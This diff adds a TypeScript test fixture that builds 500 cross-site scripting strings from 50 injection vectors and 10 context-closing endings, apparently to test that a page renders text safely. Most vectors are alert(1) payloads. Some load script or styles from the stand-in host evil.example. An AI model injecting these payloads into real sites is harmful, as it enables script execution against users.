@@ -1,0 +1,61 @@
+/** What would run as a script if a page ever took text for markup: each sets `window.ran` or opens a dialog. At most 100 characters. */
+
+const vectors = [
+  '<script>alert(1)</script>',
+  '<script>window.ran=1</script>',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<script src=//evil.example/x.js></script>',
+  '<script>alert`1`</script>',
+  '<script/x>alert(1)</script/x>',
+  '<script\u00a0>alert(1)</script>',
+  '<script type=module>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror="window.ran=1">',
+  '<img/src=x/onerror=alert(1)>',
+  '<image src=x onerror=alert(1)>',
+  '<img srcset=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<body onpageshow=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)>',
+  '<textarea autofocus onfocus=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  '<div style="animation:x 1s" onanimationstart=alert(1)>',
+  '<p id=x tabindex=0 autofocus onfocus=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href="//evil.example/">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<template><script>alert(1)</script></template>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '{{constructor.constructor("alert(1)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that some template language would run
+  '${alert(1)}',
+]
+
+/** What would end the place that the text stands in. */
+const endings = ['', '">', "'>", '</script>', '</title>', '</style>', '</textarea>', '-->', ']]>', '" onmouseover=alert(1) x="']
+
+/** 500 of them, all different. */
+export const scriptsAsText = endings.flatMap((ending) => vectors.map((vector) => `${ending}${vector}`))
